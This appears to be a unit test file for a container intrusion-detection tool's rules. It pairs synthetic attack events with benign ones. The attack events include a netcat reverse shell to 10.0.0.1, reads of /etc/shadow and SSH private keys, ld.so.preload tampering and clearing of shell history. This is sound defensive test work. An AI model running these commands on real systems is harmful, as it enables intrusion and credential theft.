/**
 * The built-in rules on hand-made events: each fires on its attack and not on a benign
 * neighbour. (Unit level: the real-container tests per rule come with the analyzer's wiring.)
 */
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { join } from 'node:path';
import { test } from 'node:test';
import { loadRules } from '../../src/rules/index.js';
import type { TrackerEvent } from '../../src/pipeline/types.js';
import { repoRoot } from '../helpers.js';

const web = { id: 'cd7a6582a036', full_id: 'cd7a6582a036'.padEnd(64, '0'), name: 'web', image: 'nginx:1' };
const host = { id: 'host', full_id: 'host', name: 'host' };
const ev = (tracker: string, data: Record<string, unknown>, container: object = web): TrackerEvent => ({ tracker, instance: 1, time: 0, data: { pid: 42, ppid: 1, uid: 0, comm: 'x', container, ...data } });
const exec = (comm: string, args: string[], extra: Record<string, unknown> = {}, container: object = web): TrackerEvent => ev('process', { type: 'exec', comm, exe: `/bin/${comm}`, args, ...extra }, container);
const open = (comm: string, path: string, flags: string, container: object = web, fd = 3): TrackerEvent => ev('opensnoop', { comm, path, flags, fd }, container);
const sys = (comm: string, syscall: string, container: object = web): TrackerEvent => ev('syscall', { comm, syscall, type: 'first_use' }, container);
const connect = (daddr: string, dport: number, container: object = web): TrackerEvent => ev('tcpconnect', { comm: 'curl', direction: 'connect', daddr, dport }, container);
const mount = (comm: string, container: object = web): TrackerEvent => ev('mountsnoop', { comm, call: 'mount', source: 'tmpfs', target: '/mnt', fs_type: 'tmpfs' }, container);

const CASES: [string, TrackerEvent, TrackerEvent][] = [
  ['insert_bpf', sys('loader', 'bpf'), sys('loader', 'openat')],
  ['anti_debugging', sys('strace', 'ptrace'), sys('strace', 'wait4')],
  ['shell_in_container', exec('sh', ['sh', '-i']), exec('sh', ['sh', '-c', 'true'], {}, host)],
  ['sensitive_file_read', open('cat', '/etc/shadow', 'O_RDONLY'), open('sudo', '/etc/shadow', 'O_RDONLY')],
  ['write_below_etc', open('sh', '/etc/crontab', 'O_WRONLY|O_CREAT|O_TRUNC'), open('cat', '/etc/crontab', 'O_RDONLY')],
  ['write_below_binary_dir', open('cp', '/usr/bin/ls', 'O_WRONLY|O_TRUNC'), open('apt-get', '/usr/bin/ls', 'O_WRONLY|O_TRUNC')],
  ['release_agent_write', open('sh', '/sys/fs/cgroup/rdma/release_agent', 'O_WRONLY|O_TRUNC'), open('cat', '/sys/fs/cgroup/rdma/notify_on_release', 'O_RDONLY')],
  ['kernel_module_load', sys('insmod', 'finit_module'), sys('lsmod', 'read')],
  ['mount_in_container', mount('mount'), mount('runc:[2:INIT]')],
  ['namespace_change_in_container', sys('nsenter', 'setns'), sys('runc:[1:CHILD]', 'setns')],
  ['memfd_exec', exec('x', ['x'], { exe: '/memfd:payload (deleted)' }), exec('x', ['x'], { exe: '/usr/bin/x' })],
  ['dev_shm_exec', exec('x', ['x'], { exe: '/dev/shm/x' }), exec('x', ['x'], { exe: '/tmp/x' })],
  ['netcat_remote_exec', exec('nc', ['nc', '-e', '/bin/sh', '10.0.0.1', '4444']), exec('nc', ['nc', '-z', '10.0.0.1', '80'])],
  ['package_manager_in_container', exec('apk', ['apk', 'add', 'curl']), exec('apk', ['apk', 'add', 'curl'], {}, host)],
  ['network_tool_in_container', exec('nmap', ['nmap', '10.0.0.0/24']), exec('nmap', ['nmap', '10.0.0.0/24'], {}, host)],
  ['runtime_socket_opened', open('curl', '/var/run/docker.sock', 'O_RDWR'), open('curl', '/var/run/docker.sock', 'O_RDWR', host)],
  ['cloud_metadata_contacted', connect('169.254.169.254', 80), connect('10.0.0.1', 80)],
  ['miner_pool_port', connect('203.0.113.9', 3333), connect('203.0.113.9', 443)],
  ['shell_history_cleared', open('sh', '/root/.bash_history', 'O_WRONLY|O_CREAT|O_TRUNC'), open('sh', '/root/.bash_history', 'O_WRONLY|O_APPEND')],
  ['ssh_key_search', exec('find', ['find', '/', '-name', 'id_rsa']), exec('find', ['find', '/', '-name', '*.log'])],
  ['ld_preload_tamper', open('sh', '/etc/ld.so.preload', 'O_WRONLY|O_CREAT'), open('ld.so', '/etc/ld.so.preload', 'O_RDONLY')],
  ['private_key_read', open('cat', '/root/.ssh/id_ed25519', 'O_RDONLY'), open('ssh', '/root/.ssh/id_ed25519', 'O_RDONLY')],
];

test('every built-in rule has a case here', () => {
  const ids = loadRules([]).rules().map((r) => r.id).sort();
  assert.deepEqual(CASES.map((c) => c[0]).sort(), ids);
});

for (const [id, attack, benign] of CASES) {
  test(`${id}: fires on its attack, silent on a benign neighbour`, () => {
    const set = loadRules([]);
    assert.deepEqual(set.match(attack).map((m) => m.rule).filter((r) => r === id), [id]);
    assert.deepEqual(set.match(benign).map((m) => m.rule).filter((r) => r === id), []);
  });
}

test('eunomia rules list and check', () => {
  const bin = join(repoRoot, 'bin/eunomia.js');
  const list = spawnSync(process.execPath, [bin, 'rules', 'list'], { encoding: 'utf8' });
  assert.equal(list.status, 0);
  assert.match(list.stdout, /^RULE\s+PRIORITY\s+ENABLED\s+EVENTS\s+TAGS\s+NAME\n/);
  assert.match(list.stdout, /\ninsert_bpf\s+critical\s+on\s+syscall\s/);
  const bad = spawnSync(process.execPath, [bin, 'rules', 'check', join(repoRoot, 'test/fixtures/bad-rule.yaml')], { encoding: 'utf8' });
  assert.equal(bad.status, 1);
  assert.equal(bad.stderr.trim(), `eunomia: ${join(repoRoot, 'test/fixtures/bad-rule.yaml')}:3:19: rule "x": unknown operator "startwith" after "comm" — did you mean "startswith"?`);
});
